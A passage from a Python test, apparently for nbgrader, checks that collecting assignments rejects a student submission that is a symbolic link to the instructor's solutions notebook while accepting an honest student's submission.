        (folder / "timestamp.txt").write_text("2026-12-03 09:00:00.000000 UTC")
        notebook = folder / f"{MACS}.ipynb"
        if student == "x-linked":
            notebook.symlink_to(root / "solutions" / MACS / f"{MACS}.ipynb")
        else:
            nbformat.write(student_version(MACS), notebook)
    done = subprocess.run([sys.executable, "-m", "nbgrader", "collect", MACS, f"--Exchange.root={tmp_path / 'exchange'}",
                           "--CollectApp.check_owner=False"], cwd=root, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert f"refused the submission x-linked+{MACS}" in done.stderr and "is a symbolic link" in done.stderr
    submitted = set(api.get_submitted_students(MACS))
    assert "x-honest" in submitted and "x-linked" not in submitted
